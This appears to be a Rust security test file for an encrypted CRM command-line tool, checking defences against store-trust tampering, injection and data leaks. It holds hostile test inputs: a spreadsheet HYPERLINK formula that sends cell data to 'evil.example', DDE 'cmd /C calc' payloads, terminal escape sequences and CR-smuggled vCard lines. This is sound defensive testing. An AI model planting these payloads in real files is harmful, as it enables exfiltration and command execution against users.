//! Attacks turned into tests: trust that followed a path, spreadsheet formulas, terminal
//! escapes, reversible tombstones, stored values in findings, audit hints that did not
//! work, and the weaknesses around the edit copy, the identity file and stray plaintext.

use std::path::{Path, PathBuf};
use std::process::Output;

use serde_json::Value;

use crate::common::{TestStore, copy_dir, edit_lock, new_identity, rage};

fn stderr(out: &Output) -> String {
    String::from_utf8_lossy(&out.stderr).into_owned()
}

fn stdout(out: &Output) -> String {
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// `crmfile --store STORE ARGS…` with the test's identity and config.
fn in_store(t: &TestStore, store: &Path, args: &[&str]) -> Output {
    t.bare()
        .arg("--store")
        .arg(store)
        .args(args)
        .output()
        .expect("run crmfile")
}

fn audit_json(t: &TestStore) -> Vec<Value> {
    let out = t.cmd().args(["audit", "--format", "json"]).output().unwrap();
    serde_json::from_slice(&out.stdout)
        .unwrap_or_else(|e| panic!("audit printed no JSON ({e}): {}{}", stdout(&out), stderr(&out)))
}

fn codes(findings: &[Value]) -> Vec<String> {
    findings
        .iter()
        .map(|f| f["code"].as_str().unwrap().to_string())
        .collect()
}

// 1. Trust is bound to the store, not its path ───────────────────────────────────────────

#[test]
fn a_copied_store_with_a_stranger_key_appended_is_not_written_to() {
    let t = TestStore::new();
    t.add(&["--name", "张伟", "--phone", "+86 138 0013 8000"]);
    let (_, evil) = new_identity(&t, "mallory");
    // The attacker hands over a copy (a re-clone) with their key appended.
    let copy = t.root().join("reclone");
    copy_dir(&t.store(), &copy);
    let recipients = copy.join(".age-recipients");
    let text = std::fs::read_to_string(&recipients).unwrap();
    std::fs::write(&recipients, format!("{text}{evil}\n")).unwrap();

    let out = in_store(
        &t,
        &copy,
        &["-q", "add", "--name", "李雷", "--phone", "+86 139 0000 0000"],
    );
    assert!(
        !out.status.success(),
        "wrote to an untrusted key: {}",
        stderr(&out)
    );
    let err = stderr(&out);
    assert!(err.contains(&evil), "the error must show the keys: {err}");
    assert!(err.contains("crmfile recipients trust"), "{err}");
    // Reading still works, with a warning that -q does not hide.
    let out = in_store(&t, &copy, &["-q", "find", "--format", "ids"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(stderr(&out).contains("recipients trust"), "{}", stderr(&out));
}

#[test]
fn a_moved_store_keeps_its_trust() {
    let t = TestStore::new();
    t.add(&["--name", "张伟"]);
    let moved = t.root().join("moved");
    copy_dir(&t.store(), &moved);
    let out = in_store(&t, &moved, &["add", "--name", "李雷"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(!stderr(&out).contains("trust"), "{}", stderr(&out));
}

#[test]
fn a_store_first_seen_here_is_refused_until_trusted_and_trusting_is_never_silent() {
    let t = TestStore::new();
    // A store someone else made, listing this user's key: never seen on this machine.
    let other_cfg = t.root().join("other-cfg");
    let theirs = t.root().join("theirs");
    t.bare()
        .env("XDG_CONFIG_HOME", &other_cfg)
        .arg("--identity")
        .arg(t.identity())
        .args(["init", "--recipient", &t.public_key()])
        .arg(&theirs)
        .assert()
        .success();
    let config = std::fs::read_to_string(theirs.join(".crmfile/config.toml")).unwrap();
    assert!(config.contains("store_id = "), "init writes an id: {config}");

    let out = in_store(&t, &theirs, &["add", "--name", "张伟"]);
    assert!(!out.status.success(), "wrote to a store never trusted here");
    let err = stderr(&out);
    assert!(
        err.contains(&t.public_key()) && err.contains("crmfile recipients trust"),
        "{err}"
    );
    let out = in_store(&t, &theirs, &["find", "--format", "ids"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(stderr(&out).contains("not been trusted"), "{}", stderr(&out));

    let out = in_store(&t, &theirs, &["-q", "recipients", "trust", "--yes"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("trusting"),
        "-q hid the trust notice: {}",
        stderr(&out)
    );
    let out = in_store(&t, &theirs, &["add", "--name", "张伟"]);
    assert!(out.status.success(), "{}", stderr(&out));
}

// 2. CSV formula injection ──────────────────────────────────────────────────────────────

#[test]
fn csv_cells_a_spreadsheet_would_run_are_text_and_import_back_exactly() {
    let t = TestStore::new();
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")";
    let id = t.add(&[
        "--name",
        formula,
        "--phone",
        "+86 138 0013 8000",
        "--company",
        "@SUM(1+1)*cmd|' /C calc'!A0",
    ]);
    let out = t
        .cmd()
        .args([
            "log-contact",
            &id,
            "--channel",
            "phone",
            "--summary=-2+3+cmd|' /C calc'!A0",
        ])
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));

    let export = |args: &[&str]| {
        let out = t
            .cmd()
            .args(["export", "--format", "csv"])
            .args(args)
            .output()
            .unwrap();
        assert!(out.status.success(), "{}", stderr(&out));
        stdout(&out)
    };
    for text in [export(&[]), export(&["--bom"])] {
        assert!(text.contains("\"'=HYPERLINK("), "{text}");
        assert!(text.contains("'@SUM(1+1)"), "{text}");
        assert!(
            text.contains(",+86 138 0013 8000,"),
            "a phone stays a phone: {text}"
        );
        assert!(!text.contains(",=") && !text.contains(",@"), "{text}");
    }
    let entries = export(&["--entries", "contacts"]);
    assert!(entries.contains("'-2+3+cmd"), "{entries}");
    let raw = export(&["--raw"]);
    assert!(
        raw.contains("\"=HYPERLINK("),
        "--raw keeps cells as stored: {raw}"
    );
    let out = t.cmd().args(["find", "--format", "csv"]).output().unwrap();
    assert!(stdout(&out).contains("\"'=HYPERLINK("), "{}", stdout(&out));

    // What was exported imports back to the same text.
    let other = TestStore::new();
    let file = other.root().join("export.csv");
    std::fs::write(&file, export(&[])).unwrap();
    let out = other
        .cmd()
        .args(["import", "customers", "--format", "csv"])
        .arg(&file)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}{}", stdout(&out), stderr(&out));
    let out = other.cmd().args(["find", "--format", "json"]).output().unwrap();
    let found: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(found[0]["name"], formula);
    assert_eq!(found[0]["company"], "@SUM(1+1)*cmd|' /C calc'!A0");
}

// 3. Terminal escapes ───────────────────────────────────────────────────────────────────

const HOSTILE: &str = "Evil\u{1b}[31mRed\u{1b}]0;pwned\u{7}\u{1b}[2J";

#[test]
fn control_characters_in_data_reach_no_terminal() {
    let t = TestStore::new();
    let id = t.add(&["--name", HOSTILE, "--phone", "+86 138 0013 8000"]);
    for args in [
        vec!["find", "--format", "table"],
        vec!["find"],
        vec!["show", id.as_str(), "--format", "table"],
    ] {
        let out = t.cmd().args(&args).output().unwrap();
        assert!(out.status.success(), "{args:?}: {}", stderr(&out));
        let text = stdout(&out);
        assert!(
            !text.contains('\u{1b}') && !text.contains('\u{7}'),
            "{args:?}: {text:?}"
        );
        assert!(
            text.contains("\\x1b[31m"),
            "{args:?} shows the escape visibly: {text}"
        );
    }
    // An error quoting what the user typed.
    let out = t
        .cmd()
        .args(["show", "nobody\u{1b}]0;pwned\u{7}\u{1b}[2J"])
        .output()
        .unwrap();
    assert!(!out.status.success());
    assert!(!stderr(&out).contains('\u{1b}'), "{:?}", stderr(&out));
    // Machine formats keep the data exact.
    let out = t.cmd().args(["show", &id, "--format", "json"]).output().unwrap();
    let json: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(json["name"], HOSTILE);
}

#[test]
fn a_bare_cr_never_starts_a_line_in_vcard_or_icalendar() {
    let t = TestStore::new();
    let name = "Li\rEND:VCARD\rBEGIN:VEVENT\u{1b}[2J";
    let id = t.add(&[
        "--name",
        name,
        "--phone",
        "+86 138 0013 8000",
        "--birthday",
        "1990-11-25",
    ]);
    let out = t
        .cmd()
        .args(["set", &id, "follow_up.next=2026-11-23"])
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    for args in [
        vec!["export", "--format", "vcard"],
        vec!["export", "--format", "ics"],
        vec!["remind", "--within", "30d", "--format", "ics"],
    ] {
        let out = t.cmd().args(&args).output().unwrap();
        assert!(out.status.success(), "{args:?}: {}", stderr(&out));
        let bytes = out.stdout;
        for (i, b) in bytes.iter().enumerate() {
            if *b == b'\r' {
                assert_eq!(bytes.get(i + 1), Some(&b'\n'), "{args:?}: bare CR at {i}");
            }
            assert!(
                *b >= 0x20 || matches!(b, b'\r' | b'\n' | b'\t'),
                "{args:?}: control byte {b:#x}"
            );
        }
        let text = String::from_utf8(bytes).unwrap();
        assert!(
            !text
                .lines()
                .any(|l| l == "END:VCARD\r" && text.matches("END:VCARD").count() > 1)
        );
        assert!(
            !text.contains("\r\nBEGIN:VEVENT\\") && !text.contains("\nEND:VCARD\\"),
            "{text}"
        );
    }
}

// 4. Tombstones ─────────────────────────────────────────────────────────────────────────

#[test]
fn tombstones_cannot_be_reversed_without_the_store_key() {
    let t = TestStore::new();
    let id = t.add(&["--name", "张伟", "--phone", "+86 138 0013 8000"]);
    let out = t
        .cmd()
        .args(["forget", &id, "--reason", "erasure request", "--yes"])
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    let state = t.store().join(".crmfile");
    let key = std::fs::read(state.join("erasure-key.age")).expect("an erasure key is made");
    assert!(key.starts_with(b"age-encryption.org/"), "the key is sealed");
    let tombstones: toml::Table =
        toml::from_str(&std::fs::read_to_string(state.join("erasures.toml")).unwrap()).unwrap();
    let entry = &tombstones["erasure"][0];
    assert!(entry.get("salt").is_none(), "no plain salted hash: {entry}");
    // The attack: SHA-256 over salt and every candidate phone. It must find nothing.
    let salt = entry.get("salt").and_then(|s| s.as_str()).unwrap_or("");
    let hashes: Vec<&str> = entry["hashes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|h| h.as_str().unwrap())
        .collect();
    let script = format!(
        "import hashlib,sys\nsalt={salt:?}\nfor p in ['+8613800138000','13800138000','+86 138 0013 8000']:\n  \
         print(hashlib.sha256(salt.encode()+b'\\0'+('phone:'+p).encode()).hexdigest())"
    );
    let out = crate::common::python().args(["-c", &script]).output().unwrap();
    for guess in String::from_utf8_lossy(&out.stdout).lines() {
        assert!(!hashes.contains(&guess), "tombstone reversed by brute force");
    }
    // Members still notice the same person coming back.
    let out = t
        .cmd()
        .args(["add", "--name", "张伟", "--phone", "13800138000"])
        .output()
        .unwrap();
    assert!(!out.status.success(), "an erased customer was added again");
}

// 5. Findings never print stored values ─────────────────────────────────────────────────

#[test]
fn findings_name_the_field_not_the_value() {
    let Some(rage) = rage() else { return };
    let t = TestStore::new();
    let text = "schema = 1\nid = \"c-66666666\"\nname = \"王五\"\ncreated = 2026-11-22T09:30:00+08:00\n\
                updated = 2026-11-22T09:30:00+08:00\n\n[contact]\nphones = [\"CANARY-555\"]\n\
                emails = [\"CANARY-mail\"]\n";
    rage.encrypt(&t.public_key(), text, &t.record_path("c-66666666"));
    for format in ["json", "table"] {
        let out = t.cmd().args(["audit", "--format", format]).output().unwrap();
        let all = stdout(&out) + &stderr(&out);
        assert!(all.contains("contact.phones"), "{all}");
        assert!(!all.contains("CANARY"), "a stored value was printed: {all}");
    }
}

// 6. Audit hints that work ──────────────────────────────────────────────────────────────

/// Runs `crmfile edit ID` with an editor script that overwrites the copy with `text`.
fn edit_to(t: &TestStore, id: &str, text: &str) -> Output {
    let new = t.root().join("fixed.toml");
    std::fs::write(&new, text).unwrap();
    let editor = t.editor_script("fix.sh", &format!("cat '{}' > \"$1\"", new.display()));
    t.cmd().env("EDITOR", editor).args(["edit", id]).output().unwrap()
}

fn good_record(id: &str) -> String {
    format!(
        "schema = 1\nid = \"{id}\"\nname = \"修好了\"\ncreated = 2026-11-22T09:30:00+08:00\n\
         updated = 2026-11-22T09:30:00+08:00\n"
    )
}

#[test]
fn audit_hints_for_broken_records_can_be_followed() {
    let Some(rage) = rage() else { return };
    let _guard = edit_lock();
    let t = TestStore::new();
    let key = t.public_key();
    // Not TOML at all; a well-formed id in the wrong file; an id that is no id.
    rage.encrypt(&key, "name = = broken\n", &t.record_path("c-66666666"));
    rage.encrypt(&key, &good_record("c-77777777"), &t.record_path("c-88888888"));
    rage.encrypt(&key, &good_record("CANARY"), &t.store().join("CANARY.toml.age"));
    let findings = audit_json(&t);
    let hint_for = |code: &str| -> String {
        findings
            .iter()
            .find(|f| f["code"] == code)
            .unwrap_or_else(|| panic!("no {code} in {findings:#?}"))["hint"]
            .as_str()
            .unwrap()
            .to_string()
    };

    assert!(hint_for("not-toml").contains("crmfile edit c-66666666"));
    let out = edit_to(&t, "c-66666666", &good_record("c-66666666"));
    assert!(
        out.status.success(),
        "edit refused a record that does not parse: {}",
        stderr(&out)
    );

    let hint = hint_for("id-mismatch");
    assert!(hint.contains("crmfile edit c-88888888"), "{hint}");
    let out = edit_to(&t, "c-88888888", &good_record("c-88888888"));
    assert!(out.status.success(), "{}", stderr(&out));

    let hint = hint_for("invalid-field");
    assert!(!hint.contains("crmfile set"), "set cannot change an id: {hint}");
    let new = hint
        .split('`')
        .find_map(|part| part.strip_suffix(".toml.age"))
        .expect("the hint names a file")
        .to_string();
    std::fs::rename(t.store().join("CANARY.toml.age"), t.record_path(&new)).unwrap();
    let out = edit_to(&t, &new, &good_record(&new));
    assert!(out.status.success(), "{}", stderr(&out));

    let left = codes(&audit_json(&t));
    for code in ["not-toml", "id-mismatch", "invalid-field"] {
        assert!(!left.contains(&code.to_string()), "{code} still found: {left:?}");
    }
}

// 7. Weaknesses ─────────────────────────────────────────────────────────────────────────

#[test]
fn a_copy_left_by_a_killed_edit_is_found_and_removed() {
    let _guard = edit_lock();
    let t = TestStore::new();
    let id = t.add(&["--name", "张伟", "--phone", "+86 138 0013 8000"]);
    let pid_file = t.root().join("editor.pid");
    let editor = t.editor_script(
        "hang.sh",
        &format!("echo $$ > '{}'\nexec sleep 30", pid_file.display()),
    );
    let mut child = t
        .std_cmd()
        .env("EDITOR", editor)
        .args(["edit", &id])
        .spawn()
        .unwrap();
    let started = std::time::Instant::now();
    while !pid_file.is_file() || std::fs::read_to_string(&pid_file).unwrap().trim().is_empty() {
        assert!(started.elapsed().as_secs() < 20, "the editor never started");
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    let copy_name = format!("crmfile-edit-{}-", child.id());
    child.kill().unwrap(); // SIGKILL: nothing runs on the way out
    child.wait().unwrap();
    let editor_pid = std::fs::read_to_string(&pid_file).unwrap();
    let _ = std::process::Command::new("kill").arg(editor_pid.trim()).status();
    let left: Vec<PathBuf> = crate::common::shm_edit_copies()
        .into_iter()
        .filter(|p| p.file_name().unwrap().to_string_lossy().starts_with(&copy_name))
        .collect();
    assert_eq!(left.len(), 1, "the killed edit left its copy: {left:?}");

    assert!(codes(&audit_json(&t)).contains(&"stale-edit-copy".to_string()));
    let out = t
        .cmd()
        .env("EDITOR", "true")
        .args(["edit", &id])
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(stderr(&out).contains("left behind"), "{}", stderr(&out));
    assert!(!left[0].exists(), "the stale copy is still there");
}

#[test]
fn a_copy_folder_on_disk_needs_the_unsafe_flag_and_is_warned_about() {
    let _guard = edit_lock();
    let t = TestStore::new();
    let id = t.add(&["--name", "张伟"]);
    let dir = t.root().join("disk");
    std::fs::create_dir_all(&dir).unwrap();
    let out = t
        .cmd()
        .env("EDITOR", "true")
        .arg("edit")
        .arg(&id)
        .arg("--unsafe-copy-dir")
        .arg(&dir)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(stderr(&out).contains("not memory-backed"), "{}", stderr(&out));
    assert_eq!(
        std::fs::read_dir(&dir).unwrap().count(),
        0,
        "the copy was not removed"
    );
}

#[test]
fn an_identity_others_can_read_is_refused_and_dev_zero_is_capped() {
    use std::os::unix::fs::PermissionsExt;
    let t = TestStore::new();
    t.add(&["--name", "张伟"]);
    std::fs::set_permissions(t.identity(), std::fs::Permissions::from_mode(0o644)).unwrap();
    let out = t.cmd().args(["find", "--format", "ids"]).output().unwrap();
    assert!(!out.status.success(), "a world-readable identity was used");
    assert!(stderr(&out).contains("chmod 600"), "{}", stderr(&out));
    // One others may write to is refused too, and said as such.
    std::fs::set_permissions(t.identity(), std::fs::Permissions::from_mode(0o620)).unwrap();
    let out = t.cmd().args(["find", "--format", "ids"]).output().unwrap();
    assert!(!out.status.success());
    assert!(
        stderr(&out).contains("can be read or changed by others (mode 620)"),
        "{}",
        stderr(&out)
    );
    std::fs::set_permissions(t.identity(), std::fs::Permissions::from_mode(0o600)).unwrap();

    let out = t
        .cmd()
        .args(["--identity", "/dev/zero", "find", "--format", "ids"])
        .timeout(std::time::Duration::from_secs(10))
        .output()
        .unwrap();
    assert!(!out.status.success());
    assert!(stderr(&out).contains("too large"), "{}", stderr(&out));
}

#[test]
fn audit_finds_plaintext_records_whatever_their_name() {
    let t = TestStore::new();
    let id = t.add(&["--name", "张伟", "--phone", "+86 138 0013 8000"]);
    let out = t.cmd().args(["show", &id, "--format", "toml"]).output().unwrap();
    let plain = out.stdout;
    std::fs::write(t.store().join("notes.bak"), &plain).unwrap();
    std::fs::create_dir_all(t.store().join(".backup")).unwrap();
    std::fs::write(t.store().join(".backup").join("dump"), &plain).unwrap();
    std::fs::write(t.store().join(".crmfile").join("export.dat"), &plain).unwrap();
    let findings = audit_json(&t);
    let paths: Vec<&str> = findings
        .iter()
        .filter(|f| f["code"] == "plaintext-file")
        .filter_map(|f| f["path"].as_str())
        .collect();
    for want in ["notes.bak", ".backup/dump", ".crmfile/export.dat"] {
        assert!(paths.contains(&want), "{want} not found: {findings:#?}");
    }
}
